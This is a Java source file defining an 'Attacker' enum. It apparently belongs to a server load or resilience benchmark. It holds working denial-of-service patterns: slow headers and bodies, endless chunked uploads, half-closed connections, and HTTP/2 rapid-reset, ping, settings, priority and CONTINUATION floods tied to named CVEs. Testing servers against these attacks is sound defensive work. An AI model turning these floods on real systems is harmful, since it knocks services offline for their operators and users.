package dev.refrain.bench.load;

import static java.nio.charset.StandardCharsets.US_ASCII;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.net.Socket;
import java.util.Random;
import java.util.function.IntFunction;
import org.jspecify.annotations.Nullable;

/** Somebody who means harm. */
@SuppressWarnings("ImmutableEnumChecker") // what is said is a function of a number alone
enum Attacker {
  /** Nobody, for comparison. */
  NOBODY("none", 0, 0),

  /** Never comes to the end of a request. */
  SLOW_HEADERS("2,000 connections, each with one byte of a header a second", 2000, 1) {
    @Override
    void greet(OutputStream out) throws IOException {
      out.write("GET / HTTP/1.1\r\nhost: x\r\nx: ".getBytes(US_ASCII));
    }

    @Override
    boolean annoy(Socket socket, int turn) throws IOException {
      socket.getOutputStream().write('y');
      return true;
    }
  },

  /** Has work begun that nobody wants any more (CVE-2023-44487). */
  RESETS("streams opened and reset", i -> Frames.join(Frames.get(i), Frames.reset(i))),

  /** The same, but not in one breath: work has begun when it is taken back. */
  LATE_RESETS(
      "streams opened, and reset 20 ms later",
      i -> Frames.join(Frames.get(i), Frames.resetOfLastTurn(i))),

  /** Has the server reset the streams (CVE-2025-8671). */
  PROVOKED_RESETS(
      "streams that the server must reset", i -> Frames.join(Frames.get(i), Frames.room(i, 0))),

  /** Wants to be answered all the time (CVE-2019-9512). */
  PINGS("pings", i -> Frames.ping()),

  /** The same with what must be applied, too (CVE-2019-9515). */
  SETTINGS("settings", i -> Frames.settings()),

  /** Gives room that nobody needs. */
  ROOM("windows opened by one byte", i -> Frames.room(0, 1)),

  /** Says in what order its streams shall be served (CVE-2019-9513). */
  PRIORITIES("priorities", Frames::priority),

  /** Headers that never end (CVE-2024-27316). */
  CONTINUATIONS("headers that go on, with nothing", i -> Frames.nothingMoreOfHeaders(1)) {
    @Override
    void greet(OutputStream out) throws IOException {
      super.greet(out);
      out.write(Frames.beginHeaders(1));
    }
  },

  /** A body of nothing that never ends (CVE-2019-9518). */
  EMPTY_DATA("pieces of a body with nothing in them", i -> Frames.nothingOfBody(1)) {
    @Override
    void greet(OutputStream out) throws IOException {
      super.greet(out);
      out.write(Frames.begin(1));
    }
  },

  /** Never comes to the end of a body. */
  SLOW_BODIES("2,000 connections, each with one byte of a body a second", 2000, 1) {
    @Override
    void greet(OutputStream out) throws IOException {
      out.write(post("content-length: 1000000"));
    }

    @Override
    boolean annoy(Socket socket, int turn) throws IOException {
      socket.getOutputStream().write(' ');
      return true;
    }
  },

  /** The same, but fast: as large as what is still looked at, and then larger. */
  LARGE_BODIES("5 connections, each with 5 MB a second of a body without an end", 5, 20) {
    @Override
    void greet(OutputStream out) throws IOException {
      out.write(post("transfer-encoding: chunked"));
    }

    @Override
    boolean annoy(Socket socket, int turn) throws IOException {
      var chunk = new ByteArrayOutputStream();
      chunk.writeBytes((Integer.toHexString(CHUNK_BYTES) + "\r\n").getBytes(US_ASCII));
      chunk.writeBytes(new byte[CHUNK_BYTES]);
      chunk.writeBytes("\r\n".getBytes(US_ASCII));
      socket.getOutputStream().write(chunk.toByteArray());
      return true;
    }
  },

  /** Says half of what it wants, and that it will say no more. */
  HALF_CLOSED("500 connections a second, each closed by half amid a request", 10, 50) {
    @Override
    void greet(OutputStream out) throws IOException {
      out.write(post("content-length: 100"));
      out.write('{');
    }

    @Override
    boolean annoy(Socket socket, int turn) throws IOException {
      socket.shutdownOutput();
      return false;
    }
  },

  /** Sends what is no HTTP. */
  GARBAGE("500 connections a second, each with 1 KB of noise", 10, 50) {
    @Override
    void greet(OutputStream out) {}

    @Override
    boolean annoy(Socket socket, int turn) throws IOException {
      var noise = new byte[1 << 10];
      new Random(turn).nextBytes(noise);
      socket.getOutputStream().write(noise);
      socket.shutdownOutput();
      return false;
    }
  };

  private static final int CHUNK_BYTES = 256 << 10;

  private final String description;
  private final int connections;
  private final int turnsPerSecond;
  private final @Nullable IntFunction<byte[]> frames; // of one stream; null for other than HTTP/2

  Attacker(String description, int connections, int turnsPerSecond) {
    this.description = description;
    this.connections = connections;
    this.turnsPerSecond = turnsPerSecond;
    this.frames = null;
  }

  /** On ten connections of HTTP/2, and 10,000 times a second. */
  Attacker(String description, IntFunction<byte[]> frames) {
    this.description = "HTTP/2: 10,000 a second on 10 connections: " + description;
    this.connections = 10;
    this.turnsPerSecond = 50;
    this.frames = frames;
  }

  private static byte[] post(String header) {
    return ("POST /v1/chat/completions HTTP/1.1\r\nhost: x\r\n" + header + "\r\n\r\n")
        .getBytes(US_ASCII);
  }

  String description() {
    return description;
  }

  boolean isHttp2() {
    return frames != null;
  }

  int connections() {
    return connections;
  }

  int turnsPerSecond() {
    return turnsPerSecond;
  }

  /** Says the first words on a new connection. */
  void greet(OutputStream out) throws IOException {
    if (frames != null) {
      out.write(Frames.preface());
    }
  }

  /** Does what it does again and again, and returns whether to go on with this connection. */
  boolean annoy(Socket socket, int turn) throws IOException {
    if (frames != null) {
      var all = new ByteArrayOutputStream();
      for (int i = 1; i < Frames.A_TURN; i += 2) {
        all.writeBytes(frames.apply(turn * Frames.A_TURN + i));
      }
      socket.getOutputStream().write(all.toByteArray());
    }
    return true;
  }
}
